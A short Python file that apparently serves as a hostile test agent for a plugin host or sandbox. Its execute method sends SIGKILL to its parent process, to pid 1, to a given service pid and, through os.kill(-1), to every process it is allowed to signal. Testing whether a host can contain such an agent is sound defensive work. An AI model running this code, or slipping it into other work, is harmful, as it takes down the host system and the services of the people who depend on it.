"""Sends SIGKILL to its parent, to pid 1 and to every process it may signal."""
import os
import signal


class Agent:
    def execute(self, inputs):
        results = {}
        for name, pid in (("ppid", os.getppid()), ("init", 1), ("service", inputs["service_pid"])):
            try:
                os.kill(pid, signal.SIGKILL)
                results[name] = "sent"
            except OSError as exc:
                results[name] = type(exc).__name__
        os.kill(-1, signal.SIGKILL)
        return {"results": results}

    def get_capabilities(self):
        return {}
